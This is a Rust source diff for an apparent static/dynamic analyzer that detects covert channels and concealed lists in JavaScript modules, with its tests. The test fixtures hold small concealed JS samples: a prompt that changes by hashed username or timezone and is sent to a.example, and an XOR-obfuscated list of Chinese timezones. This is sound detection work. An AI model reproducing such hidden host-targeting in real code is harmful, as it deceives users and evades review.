@@ -2,8 +2,9 @@
 
 use assay_model::{Confidence, Role, Severity};
 
-use super::Facts;
-use crate::evaluate::{self, At, Shown};
+use super::{Facts, note_decoded, outputs as outputs_of};
+use crate::decode;
+use crate::evaluate::{self, At, Kept, Shown};
 use crate::ir::{NONE, Op, V};
 use crate::js::Slices;
 use crate::raw::{Place, one_line};
@@ -43,6 +44,9 @@ impl Facts<'_, '_, '_> {
         let Some(tried) = &slices.tried else {
             return;
         };
+        for kept in &tried.kept {
+            self.kept(kept);
+        }
         for shown in &tried.shown {
             let known: Vec<(&str, String)> =
                 shown.facts.iter().map(|fact| named(&fact.0)).collect();
@@ -52,11 +56,68 @@ impl Facts<'_, '_, '_> {
                 .collect();
             ids.sort_unstable();
             ids.dedup();
+            self.alike_by_trial(shown);
             if self.notes.has("covert.channel", &ids) {
                 continue;
             }
             self.shown_by_trial(shown, &known, &ids.join("+"));
         }
+    }
+
+    /// Tells of a list that a module compares with and does not say.
+    fn kept(&mut self, kept: &Kept) {
+        let ir = self.ir;
+        let constant = |says: &dyn Fn(&str) -> bool| {
+            ir.ops
+                .iter()
+                .any(|op| matches!(op, Op::Str(name) if says(ir.names.get(*name))))
+        };
+        let says = |value: &str| constant(&|text: &str| text.contains(value));
+        let Some(mut decoded) = decode::kept(&kept.values, ir.text, says) else {
+            return;
+        };
+        let told = self.concealed.iter().any(|(_, known)| {
+            let in_both = known.values.iter().filter(|v| decoded.values.contains(v));
+            in_both.count().saturating_mul(2) >= decoded.values.len().min(known.values.len())
+        });
+        if told {
+            return;
+        }
+        decoded.beyond_alphabet = !constant(&|text: &str| decode::ships(text, &decoded.values));
+        let value = self.whole(self.at(kept.at));
+        let place = Place {
+            note: "what the code compares with when it runs".to_owned(),
+            decoded: decoded.values.clone(),
+            decoding: decoded.steps.clone(),
+            ..self.place(value)
+        };
+        note_decoded(&decoded, Confidence::High, self.notes, || place);
+        self.concealed.push((value, decoded));
+    }
+
+    /// Tells of texts that look alike and are made when the module runs.
+    fn alike_by_trial(&mut self, shown: &Shown) {
+        let outputs = [shown.one.clone(), shown.other.clone()];
+        let of_ascii = outputs.iter().all(|output| output.is_ascii());
+        if !shown.hidden || of_ascii || self.notes.has("conceal.look-alike", &[]) {
+            return;
+        }
+        let sink = self.call_of(&shown.sink, shown.at);
+        let shown_as = outputs_of(&outputs);
+        let place = Place {
+            note: shown_as.clone(),
+            ..self.place(sink)
+        };
+        self.notes.add(
+            "conceal.look-alike",
+            &shown_as,
+            &format!(
+                "makes outputs that differ only in {}, as a trial shows: {shown_as}",
+                shown.difference
+            ),
+            (Severity::Low, Confidence::Medium),
+            || place,
+        );
     }
 
     fn shown_by_trial(&mut self, shown: &Shown, known: &[(&str, String)], ids: &str) {
@@ -79,14 +140,23 @@ impl Facts<'_, '_, '_> {
             } else {
                 format!("'{}'", one_line(base))
             };
-            path.push(self.step(
-                Role::Condition,
-                sink,
-                format!(
-                    "tried with '{}' as the {words} in place of {base}",
-                    one_line(value)
+            let (at, note) = match shown.forced {
+                Some(at) => (
+                    self.at(at),
+                    format!(
+                        "what is compared here differs between hosts that differ in the {words}; \
+                         tried with what comes of it the other way"
+                    ),
                 ),
-            ));
+                None => (
+                    sink,
+                    format!(
+                        "tried with '{}' as the {words} in place of {base}",
+                        one_line(value)
+                    ),
+                ),
+            };
+            path.push(self.step(Role::Condition, at, note));
         }
         path.push(self.step(
             Role::Choice,
@@ -104,7 +174,12 @@ impl Facts<'_, '_, '_> {
         let key = format!("{ids} -> {} -> {}", shown.difference, shown.sink);
         let place = Place {
             note: format!(
-                "tried on hosts that differ in this alone; the part that differs: {}",
+                "{}; the part that differs: {}",
+                if shown.forced.is_some() {
+                    "tried with a decision made the other way"
+                } else {
+                    "tried on hosts that differ in this alone"
+                },
                 if shown.part.is_empty() {
                     "the whole"
                 } else {
@@ -123,7 +198,14 @@ impl Facts<'_, '_, '_> {
             "covert.channel",
             &key,
             &title,
-            (severity, Confidence::High),
+            (
+                severity,
+                if shown.forced.is_some() {
+                    Confidence::Medium
+                } else {
+                    Confidence::High
+                },
+            ),
             || place,
         );
     }
@@ -131,6 +213,10 @@ impl Facts<'_, '_, '_> {
     /// The call by which something left. The interpreter tells a place in it,
     /// which may be one of its arguments.
     fn call_of(&self, name: &str, at: At) -> V {
+        // What a function gives back is told by the function's name.
+        if let Some(function) = name.strip_prefix("returned by ") {
+            return self.by_name(function);
+        }
         let inner = self.at(at);
         let (from, to) = self.ir.span(inner);
         let last = name.trim_end_matches(['(', ')', '=']).rsplit('.').next();
@@ -158,6 +244,21 @@ impl Facts<'_, '_, '_> {
             Op::Call { callee, .. } if callee == best.1 => user,
             _ => best.1,
         }
+    }
+
+    /// The first value in which a name stands.
+    fn by_name(&self, name: &str) -> V {
+        let at = memchr::memmem::find(self.ir.text.as_bytes(), name.as_bytes());
+        let at = at.and_then(|at| u32::try_from(at).ok()).unwrap_or(0);
+        let mut best = (u32::MAX, 0);
+        for index in 0..self.ir.ops.len() {
+            let value = super::id_of(index);
+            let (from, to) = self.ir.span(value);
+            if to > at && from.abs_diff(at) < best.0 {
+                best = (from.abs_diff(at), value);
+            }
+        }
+        best.1
     }
 
     /// The whole of what is read, from its beginning on: the interpreter tells
@@ -389,6 +490,71 @@ mod tests {
         let text = "import c from 'z-client';\n\
                     c.send({ system: process.env.TZ === 'Asia/Tokyo' ? 'Don\u{2019}t stop.' : 'Don\\'t stop.' });\n";
         assert!(!tried(text).shown.is_empty());
+    }
+
+    /// A module whose sentence hangs on a test that no value can be found for.
+    fn decided_by(test: &str) -> String {
+        format!(
+            "import os from 'node:os';\nimport {{ createHash, timingSafeEqual }} from 'node:crypto';\n\
+             const digest = (text) => createHash('sha256').update(text).digest('hex');\n\
+             const own = os.userInfo().username;\n\
+             export async function ask(input) {{\n\
+               const mark = {test} ? '\\u2019' : \"'\";\n\
+               await fetch('https://a.example/v1/messages', {{ method: 'POST', body: \
+               JSON.stringify({{ system: `Don${{mark}}t stop.`, input }}) }});\n}}\n"
+        )
+    }
+
+    #[test]
+    fn what_nobody_can_guess_is_decided_the_other_way() {
+        for test in [
+            "digest(own) === '41a00c2bec846e201aeac54ebe9d6a0ffc75fdea03d57e719ee8ddfe98b16879'",
+            "['a1', 'b2'].includes(digest(own).slice(0, 2) + digest(own).slice(60))",
+            "timingSafeEqual(Buffer.from(digest(own)), Buffer.from('0'.repeat(64)))",
+            "/^[bq]{3}[0-9]{4}x$/.test(own)",
+            "[...own].reduce((sum, c) => (sum * 33 + c.charCodeAt(0)) >>> 0, 5381) == 12345",
+        ] {
+            let shown = tried(&decided_by(test)).shown;
+            let forced = shown.iter().find_map(|shown| shown.forced);
+            // In the text as it was, in spite of what was put in.
+            assert_eq!(forced.map(|(line, _)| line), Some(7), "{test} {shown:?}");
+            assert_eq!(channels(&decided_by(test)).len(), 1, "{test}");
+        }
+        // What is decided hangs on what the caller gives, or on whether there
+        // is a fact at all, which there is on every host.
+        for test in [
+            "(own, digest(input) === digest('x'))",
+            "own === ''",
+            "(console.log(digest(own) === 'x'), digest(input) === 'y')",
+        ] {
+            let shown = tried(&decided_by(test)).shown;
+            assert!(shown.is_empty(), "{test} {shown:?}");
+        }
+    }
+
+    #[test]
+    fn what_a_module_compares_with_when_it_runs_is_told() {
+        let lists = |text: &str| {
+            let mut found = crate::analyze_source("tool.mjs", text);
+            found.retain(|finding| finding.behaviour == "conceal.encoded-list");
+            let decoded = found.into_iter().flat_map(|finding| finding.evidence);
+            decoded
+                .flat_map(|evidence| evidence.decoded)
+                .collect::<Vec<String>>()
+        };
+        // By steps that no slice of constants is: state, and a generator.
+        let text = "function* noise(seed) { for (;;) { seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0; yield seed >>> 24; } }\n\
+            const stream = noise(2024);\n\
+            const rows = Buffer.from('44afc2f760aeab8e4bbc4badae716297d87298283ac09e12c951445ff1f388be75d82823218e007a', 'hex').map((byte) => byte ^ stream.next().value).toString().split(',');\n\
+            export const known = (zone) => rows.some((row) => row === zone);\n";
+        assert_eq!(
+            lists(text),
+            ["Asia/Shanghai", "Asia/Urumqi", "Asia/Chongqing"]
+        );
+        // What is put together of words that the text says is said.
+        let text = "const rows = ['alpha', 'beta', 'gamma', 'delta'].map((name) => name + '.example.com'); const bytes = Buffer.from('00112233445566778899aabbccddeeff', 'hex');\n\
+            export const known = (host) => rows.includes(host);\n";
+        assert_eq!(lists(text), [""; 0]);
     }
 
     #[test]
